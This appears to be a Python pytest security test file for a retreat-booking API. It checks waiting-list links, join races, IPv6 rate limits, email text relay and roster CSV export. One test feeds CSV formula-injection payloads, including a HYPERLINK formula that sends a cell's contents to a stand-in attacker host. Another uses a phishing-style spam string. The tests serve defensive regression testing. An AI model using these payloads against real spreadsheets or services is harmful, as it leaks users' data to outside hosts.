"""Attacks on the routes added beyond the original (waiting list, self-service cancellation,
calendar, roster): what a stranger can do with an address or an id, inputs that break the
files we hand out, and races on the money paths."""

from __future__ import annotations

import re
from typing import Any

import pytest
from bson import ObjectId

from tests.support.catalogue import START, booking_body, insert_retreat
from tests.support.outbox import read_outbox


def _join(client: Any, retreat: dict, nb: int, address: str) -> Any:
    body = {
        "retreatId": str(retreat["_id"]),
        "dateStart": START.strftime("%Y-%m-%dT%H:%M:%S.000Z"),
        "nbPlaces": nb,
        "email": address,
        "prenom": "Léa",
    }
    return client.post("/bookings/waiting-list", json=body)


def _offer_token(outbox_dir: Any, to: str) -> str:
    mails = [m for m in read_outbox(outbox_dir) if m.kind == "waiting_list_offer" and to in m.to]
    assert mails, f"no offer email to {to}"
    return re.search(r"token=([0-9a-f]{24}\.[A-Za-z0-9_-]{43})", mails[-1].text).group(1)


def test_a_stranger_joining_with_her_address_does_not_kill_her_offer(api, make_client, outbox_dir, frozen_clock):
    """Joining again bumps the entry's link version; on an OFFERED entry that killed the link
    of the offer email (the joined email carries only a leave link), so anyone who knows the
    address could make her lose the seats offered to her."""
    from lutea.domain.booking_lifecycle import admin_cancel

    retreat = insert_retreat(places=2)
    booking = api.post("/bookings", json=booking_body(retreat, 2)).json()
    assert _join(api, retreat, 2, "lea@example.test").status == 201
    admin_cancel(ObjectId(booking["_id"]), None)
    token = _offer_token(outbox_dir, "lea@example.test")

    stranger = make_client(source_ip="203.0.113.77")
    assert _join(stranger, retreat, 2, "lea@example.test").status == 201

    assert api.post("/bookings/waiting-list/offer", json={"token": token}).status == 200
    booked = api.post(
        "/bookings/waiting-list/offer/book",
        json={
            "token": token,
            "participants": booking_body(retreat, 2)["participants"],
            "billingAddress": booking_body(retreat)["billingAddress"],
        },
    )
    assert booked.status == 201, booked.body


def test_joining_past_the_email_cap_leaves_her_last_link_alive(api, make_client, outbox_dir, frozen_clock):
    """Past the 3 confirmation emails an hour nothing is sent; the link version must not move
    then either, or the owner is left without a working link to leave the list."""
    retreat = insert_retreat(places=2)
    api.post("/bookings", json=booking_body(retreat, 2))
    stranger = make_client(source_ip="203.0.113.78")
    for _ in range(6):
        frozen_clock.advance(seconds=1)  # the outbox sorts by send time
        assert _join(stranger, retreat, 1, "lea@example.test").status == 201
    mails = [m for m in read_outbox(outbox_dir) if m.kind == "waiting_list_joined"]
    assert len(mails) == 3
    last = re.search(r"token=([0-9a-f]{24}\.[A-Za-z0-9_-]{43})", mails[-1].text).group(1)
    assert api.post("/bookings/waiting-list/offer", json={"token": last}).status == 409  # live, no offer yet


def test_thirty_joins_at_once_put_an_address_in_line_once(api, outbox_dir, frozen_clock, tiny_switch_interval, monkeypatch):
    """The entry was looked up, then inserted: racing joins each inserted one, so one address
    stood in line several times (several offers, one person) and each entry had its own
    email cap (more confirmations an hour to an address anyone may type). The local gateway
    runs one request per function at a time (one container), so the race is run as the
    concurrent containers of AWS would: the route's domain call, from 30 threads."""
    import time

    from lutea.data.mongo import get_db
    from lutea.data.waiting_list import WaitingListRepository
    from lutea.domain import waiting_list

    from tests.support.concurrency import crashes, run_together

    retreat = insert_retreat(places=2)
    api.post("/bookings", json=booking_body(retreat, 2))
    looked_up = WaitingListRepository.active_for

    def slow_lookup(self: Any, *args: Any) -> Any:  # a real server's round trip: others run meanwhile
        found = looked_up(self, *args)
        time.sleep(0.002)
        return found

    monkeypatch.setattr(WaitingListRepository, "active_for", slow_lookup)
    results = run_together(
        [
            lambda: waiting_list.join(
                retreat_id=str(retreat["_id"]),
                date_start=START,
                seats=1,
                email="lea@example.test",
                first_name="Léa",
                user_id=None,
            )
            for _ in range(30)
        ]
    )
    assert crashes(results) == []
    active = get_db()["waitinglist"].count_documents({"email": "lea@example.test", "statut": {"$in": ["WAITING", "OFFERED"]}})
    assert active == 1
    assert len([m for m in read_outbox(outbox_dir) if m.kind == "waiting_list_joined"]) <= 3
    assert _join(api, retreat, 1, "lea@example.test").status == 201  # and joining again still answers the same


def test_the_roster_neutralises_formulas_behind_blanks_and_control_characters(make_client, frozen_clock):
    """A cell starting with =, +, -, @ is prefixed with '; the booking's notes are not trimmed,
    so ' =HYPERLINK(…)' or '\\n=…' reached the roster as is. LibreOffice's CSV import offers
    'Trim spaces' (on by many), and a line break inside a quoted cell is dropped by some
    importers: the formula then runs on the organiser's machine."""
    import csv
    import io

    from tests.support.accounts import admin_session

    admin, _ = admin_session(make_client)
    retreat = insert_retreat(places=10)
    payloads = [' =HYPERLINK("http://evil.test/?"&B2,"Voir")', "\n=1+1", "\u00a0@SUM(1)", "\x0b-2+3", "\t \r=1"]
    for i, notes in enumerate(payloads):
        guest = make_client(source_ip=f"192.0.2.{10 + i}")
        response = guest.post("/bookings", json=booking_body(retreat, 1, notes=notes))
        assert response.status == 201, response.body
    roster = admin.get(f"/bookings/admin/roster/{retreat['_id']}/{retreat['dates'][0]['_id']}")
    assert roster.status == 200
    rows = list(csv.DictReader(io.StringIO(roster.body.lstrip("\ufeff")), delimiter=";"))
    notes_cells = [row["Notes"] for row in rows]
    assert len(notes_cells) == len(payloads)
    for cell in notes_cells:
        assert cell.startswith("'"), repr(cell)


def test_unpaid_holds_count_an_ipv6_subnet_as_one_client(make_client, frozen_clock, monkeypatch):
    """Any IPv6 customer gets a whole /64 (2^64 addresses): counted per full address, the
    unpaid-hold bound of POST /bookings let one client hold a catalogue by changing the last
    bits (and a new contact address each time)."""
    from lutea import config

    monkeypatch.setenv("PENDING_BOOKINGS_PER_CLIENT", "2")
    config.reset_settings()
    retreat = insert_retreat(places=100)
    statuses = []
    for i in range(1, 5):
        client = make_client(source_ip=f"2001:db8:7:7::{i:x}")
        body = booking_body(retreat, 1, participants=[{"prenom": "Zoé", "nom": "L", "email": f"h{i}@example.test"}])
        statuses.append(client.post("/bookings", json=body).status)
    assert statuses == [201, 201, 429, 429]
    other = make_client(source_ip="2001:db8:7:8::1")  # another /64: another client
    body = booking_body(retreat, 1, participants=[{"prenom": "Zoé", "nom": "L", "email": "z@example.test"}])
    assert other.post("/bookings", json=body).status == 201


def test_rate_limits_count_an_ipv6_subnet_as_one_client(make_client, frozen_clock, limits):
    """The strict tier (here the waiting list's) counted per full IPv6 address."""
    limits(RATE_LIMIT_STRICT_PER_MINUTE=3)
    token = {"token": f"{ObjectId()}.{'A' * 43}"}
    statuses = [
        make_client(source_ip=f"2001:db8:9:9:{i:x}::1").post("/bookings/waiting-list/leave", json=token).status
        for i in range(1, 5)
    ]
    assert statuses == [404, 404, 404, 429]
    mapped = [
        make_client(source_ip=ip).post("/bookings/waiting-list/leave", json=token).status
        for ip in ("192.0.2.50", "::ffff:192.0.2.50", "192.0.2.50", "::ffff:c000:232")
    ]
    assert mapped == [404, 404, 404, 429]  # an IPv4 address written as IPv6 is the same client


def test_waiting_list_emails_repeat_nothing_a_stranger_typed(api, outbox_dir, frozen_clock):
    """Anyone may put any address on a list with any prenom (200 characters, links allowed):
    greeting by it made the join and offer emails relay a stranger's text from our domain, as
    the contact acknowledgement once did (tests/security/test_contact_relay.py)."""
    from lutea.domain.booking_lifecycle import admin_cancel

    spam = "Votre compte est suspendu : http://arnaque.example/connexion"
    retreat = insert_retreat(places=1)
    booking = api.post("/bookings", json=booking_body(retreat, 1)).json()
    body = {
        "retreatId": str(retreat["_id"]),
        "dateStart": START.strftime("%Y-%m-%dT%H:%M:%S.000Z"),
        "nbPlaces": 1,
        "email": "victime@example.test",
        "prenom": spam,
    }
    assert api.post("/bookings/waiting-list", json=body).status == 201
    admin_cancel(ObjectId(booking["_id"]), None)
    mails = [m for m in read_outbox(outbox_dir) if "victime@example.test" in m.to]
    assert sorted(m.kind for m in mails) == ["waiting_list_joined", "waiting_list_offer"]
    for mail in mails:
        for part in (mail.subject, mail.text, mail.html):
            assert "arnaque" not in part and "suspendu" not in part


def test_routes_of_the_owner_or_guest_proof_answer_401_before_validating(make_client):
    """API.md: authentication runs before validation. These routes take a session or a guest
    token, checked inside the handler, after Powertools had validated the body: a caller with
    neither got 400 for a bad body and 401 for a good one."""
    anonymous = make_client(source_ip="192.0.2.99")
    for path, body in (
        ("/stripe/create-payment-intent", {"metadata": {"bookingId": "pas-un-id"}}),
        ("/stripe/create-payment-intent", {}),
        ("/stripe/get-payment-intent", {"paymentIntentId": 5}),
        ("/stripe/cancel-payment-intent", {"nope": True}),
    ):
        response = anonymous.post(path, json=body)
        assert response.status == 401, (path, body, response.body)
    with_proof = anonymous.post("/stripe/create-payment-intent", json={}, headers={"X-Booking-Token": "x"})
    assert with_proof.status == 400  # a proof was given: the body is then checked


@pytest.fixture
def resend_fake(monkeypatch):
    from tests.support.fake_resend import use_fake_resend

    with use_fake_resend(monkeypatch) as fake:
        yield fake


def test_an_undelivered_offer_email_leaves_no_live_link_in_the_database(api, resend_fake, frozen_clock):
    """Undelivered emails are stored for a retry, without their one-time secret (the validation
    and reset links). The waiting-list emails were stored whole: their links book the seats
    offered to someone, or take her off the list, for whoever reads the database."""
    from lutea.data.mongo import get_db
    from lutea.domain import waiting_list
    from lutea.domain.booking_lifecycle import admin_cancel

    retreat = insert_retreat(places=1)
    booking = api.post("/bookings", json=booking_body(retreat, 1)).json()
    resend_fake.fail_with(500)
    assert _join(api, retreat, 1, "lea@example.test").status == 201
    admin_cancel(ObjectId(booking["_id"]), None)
    entry = get_db()["waitinglist"].find_one({"email": "lea@example.test"})
    assert entry["statut"] == "OFFERED"
    token = waiting_list.entry_token(entry)
    stored = list(get_db()["emailfailures"].find({"kind": {"$regex": "^waiting_list"}}))
    assert stored, "the undelivered emails are kept for a retry"
    for doc in stored:
        assert token not in doc["text"] and token not in doc["html"]

    # Delivery works again: the offer (still owed) reaches her with a live link.
    resend_fake.fail_with(None)
    frozen_clock.advance(minutes=5)
    waiting_list.run_offers()
    offers = [
        m
        for m in resend_fake.sent
        if m["to"] == ["lea@example.test"] and "token=" in m.get("text", "") and "offre" in m.get("text", "")
    ]
    assert offers and token in offers[-1]["text"]
